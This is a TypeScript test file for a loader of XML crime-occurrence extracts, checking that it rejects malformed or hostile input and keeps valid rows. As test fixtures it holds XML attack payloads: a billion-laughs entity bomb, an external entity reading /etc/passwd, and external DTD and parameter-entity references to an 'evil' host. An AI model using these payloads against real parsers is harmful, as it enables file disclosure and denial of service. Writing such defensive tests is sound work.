import { gzipSync } from 'node:zlib';

import { afterAll, beforeAll, expect, test } from 'vitest';

import type { Bench } from '../bench.ts';
import { answeredFor, startBench } from '../bench.ts';
import { nicheXmlOf, occurrence } from '../occurrences.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await startBench();
});
afterAll(() => bench.close());

const good = nicheXmlOf(occurrence());
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`).join('')}]>`;
const externalEntity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const externalSubset = '<!DOCTYPE a SYSTEM "https://elsewhere.example/evil.dtd">';
const parameterEntity = '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://elsewhere.example/evil"> %x;]>';

/** Documents that are refused whole, with the rule. Nothing of them is sent. */
test.each<[string, string | Buffer, string]>([
  ['a document type', good.replace('<NicheExtract>', '<!DOCTYPE NicheExtract><NicheExtract>'), 'xml-doctype'],
  ['an external entity', good.replace('<NicheExtract>', `${externalEntity}<NicheExtract>`).replace('>Example<', '>&x;<'), 'xml-doctype'],
  ['an external document type', good.replace('<NicheExtract>', `${externalSubset}<NicheExtract>`), 'xml-doctype'],
  ['a parameter entity', good.replace('<NicheExtract>', `${parameterEntity}<NicheExtract>`), 'xml-doctype'],
  ['a billion laughs', good.replace('<NicheExtract>', `${laughs}<NicheExtract>`).replace('>Example<', '>&lol9;<'), 'xml-doctype'],
  ['a document type that never ends', `<!DOCTYPE a [${'<!-- x -->'.repeat(200_000)}`, 'row-too-long'],
  ['an entity that nobody declared', good.replace('>Example<', '>&surname;<'), 'xml-broken'],
  ['elements without end inside each other', nicheXmlOf('<a>'.repeat(10_000)), 'xml-too-deep'],
  ['elements inside each other, and all closed', nicheXmlOf(occurrence({ inside: `${'<a>'.repeat(40)}${'</a>'.repeat(40)}` })), 'xml-too-deep'],
  ['a text of a megabyte', nicheXmlOf(occurrence({ inside: `<Narrative>${'x'.repeat(1_000_000)}</Narrative>` })), 'row-too-long'],
  ['an attribute of a megabyte', nicheXmlOf(occurrence({ inside: `<Narrative a="${'x'.repeat(1_000_000)}"/>` })), 'row-too-long'],
  ['a comment of a megabyte', nicheXmlOf(occurrence({ inside: `<!-- ${'x'.repeat(1_000_000)} -->` })), 'row-too-long'],
  ['raw text of a megabyte', nicheXmlOf(occurrence({ inside: `<a><![CDATA[${'x'.repeat(1_000_000)}]]></a>` })), 'row-too-long'],
  ['an instruction of a megabyte', nicheXmlOf(occurrence({ inside: `<?a ${'x'.repeat(1_000_000)}?>` })), 'row-too-long'],
  ['an element with a hundred thousand attributes', nicheXmlOf(occurrence({ inside: `<a ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}/>` })), 'row-too-long'],
  ['an event with more people than a town', nicheXmlOf(occurrence({ people: '<GPerson><Name><Surname>Example</Surname></Name></GPerson>'.repeat(40_000) })), 'row-too-long'],
  ['an element that is not closed', good.replace('</Involvements>', ''), 'xml-broken'],
  ['an end without a beginning', good.replace('<Involvements>', ''), 'xml-broken'],
  ['an attribute twice', good.replace('OccurrenceFileNo="2600001"', 'OccurrenceFileNo="1" OccurrenceFileNo="2"'), 'xml-broken'],
  ['an ampersand that is none', good.replace('>Example<', '>Smith & Jones<'), 'xml-broken'],
  ['text after the document', `${good}<more/>`, 'xml-broken'],
  ['a character that XML has not', good.replace('>Example<', '>Exam\u0008ple<'), 'xml-broken'],
  ['a reference to a character that XML has not', good.replace('>Example<', '>&#8;<'), 'xml-broken'],
  ['half a document', good.slice(0, good.length / 2), 'xml-broken'],
  ['nothing', '', 'xml-broken'],
  ['another document', '<html><title>Sign in to continue</title></html>', 'header-missing'],
  ['a declared encoding that was not agreed', good.replace('UTF-8', 'ISO-8859-1'), 'encoding-not-as-declared'],
  ['bytes of another encoding', Buffer.from(good.replace('Example', 'Jos\u00e9'), 'latin1'), 'encoding-not-as-declared'],
  ['UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good, 'utf16le')]), 'encoding-utf-16'],
  ['a surname under another name', good.replaceAll('Surname>', 'LastName>'), 'column-missing'],
  ['persons under another name', good.replaceAll('GPerson', 'Person'), 'column-missing'],
  ['the reference under another name', good.replace('OccurrenceFileNo', 'FileNo'), 'column-missing'],
  ['the date under another name', good.replaceAll('ReportedTime', 'ReportedOn'), 'column-missing'],
  ['fewer rows than the manifest counts', nicheXmlOf(''), 'rows-disagree'],
  ['more rows than the manifest counts', nicheXmlOf(occurrence({ ref: '1' }) + occurrence({ ref: '2' })), 'rows-disagree'],
  ['packed, and not said so', gzipSync(good), 'encoding-not-as-declared'],
])('%s', async (_name, content, rule) => {
  const { result, pages, said } = await bench.load({ shape: 'niche-xml/1', content, rows: 1 });
  expect(result).toMatchObject({ code: 'CPF01', problem: { rule } });
  expect(pages).toEqual([]);
  expect(said).not.toMatch(/Example|passwd|root:/);
});

/** Occurrences that are wrong among good ones: the others are loaded. */
test.each<[string, string, string | null, string]>([
  ['a surname twice', occurrence({ ref: 'B', people: '<GPerson><Name><Surname>Canaryone</Surname><Surname>Canarytwo</Surname></Name></GPerson>' }), null, 'element-twice'],
  ['a date twice', occurrence({ ref: 'B' }).replace('<Status>', '<ReportedTime>2026-10-06</ReportedTime><Status>'), null, 'element-twice'],
  ['a town twice in one address', occurrence({ ref: 'B', person: '<Addresses><Address Link="Home"><Line1>Canary</Line1><Town>Canarya</Town><Town>Canaryb</Town></Address></Addresses>' }), null, 'element-twice'],
  ['no reference', occurrence({ ref: '' }), '/NicheExtract/Occurrences/Occurrence/@OccurrenceFileNo', 'required'],
  ['a day that is none', occurrence({ ref: 'B', date: 'Canaryday' }), '/NicheExtract/Occurrences/Occurrence/ReportedTime', 'date-format'],
  ['a type that is not declared', occurrence({ ref: 'B', type: 'Canaryrape' }), '/NicheExtract/Occurrences/Occurrence/Classification', 'value-not-allowed'],
  ['a status that is not declared', occurrence({ ref: 'B', status: 'Canaryromeo' }), '/NicheExtract/Occurrences/Occurrence/Status', 'value-not-allowed'],
  ['an address without a link', occurrence({ ref: 'B', person: '<Addresses><Address><Line1>Canary</Line1></Address></Addresses>' }), 'locations.link', 'required'],
  ['the same nominal twice', occurrence({ ref: 'A' }), '/NicheExtract/Occurrences/Occurrence/@OccurrenceFileNo', 'duplicate-ref'],
])('%s, between good ones', async (_name, wrong, column, rule) => {
  const content = nicheXmlOf([occurrence({ ref: 'A' }), wrong, occurrence({ ref: 'C' })].join('\n'));
  const { result, pages, stored, said } = await bench.load({ shape: 'niche-xml/1', content, rows: 3 });
  expect(result.rejects).toContainEqual({ line: 4, column, rule });
  expect([...stored.keys()]).toEqual(['A/N1', 'C/N1']);
  for (const page of pages) expect(answeredFor(page)).toBe(page.read);
  expect(said).not.toMatch(/Canary|Example/);
});

test('several persons in one occurrence are several records, an occurrence without a person is one, and each home stays with its own person', async () => {
  const home = (line: string, link = 'Home'): string => `<Addresses><Address Link="${link}"><Line1>${line}</Line1></Address></Addresses>`;
  const person = (id: string, more = ''): string => `<GPerson NominalId="${id}"><Name><Surname>Family${id}</Surname></Name>${more}</GPerson>`;
  const place = '<Location><Line1>The Marina</Line1></Location>';
  const links = '<Links><Link NominalId="N2" Type="Parent"/><Link NominalId="N3" Type="Co-accused"/></Links>';
  const people = person('N1', home('1 High Street') + links) + person('N2', home('2 High Street')) + person('N3');
  const { pages } = await bench.load({ shape: 'niche-xml/1', content: nicheXmlOf(occurrence({ ref: 'A', inside: place, people }) + occurrence({ ref: 'B', inside: place, people: '' })), rows: 4 });
  const records = pages.flatMap((page) => page.records.map(({ record }) => record as { sourceRef: string; person?: { names: { family: string }[] }; addresses: { lines: string[]; role: string }[]; household?: unknown }));
  expect(records.map(({ sourceRef, person: who, addresses }) => [sourceRef, who?.names[0]?.family, addresses.map(({ role, lines }) => `${role} ${lines.join()}`)])).toEqual([
    ['A/N1', 'FamilyN1', ['incident The Marina', 'home 1 High Street']],
    ['A/N2', 'FamilyN2', ['incident The Marina', 'home 2 High Street']],
    ['A/N3', 'FamilyN3', ['incident The Marina']],
    ['B', undefined, ['incident The Marina']],
  ]);
  expect(records[0]?.household).toEqual([{ relation: 'parent', sourceRef: 'A/N2' }]);
});
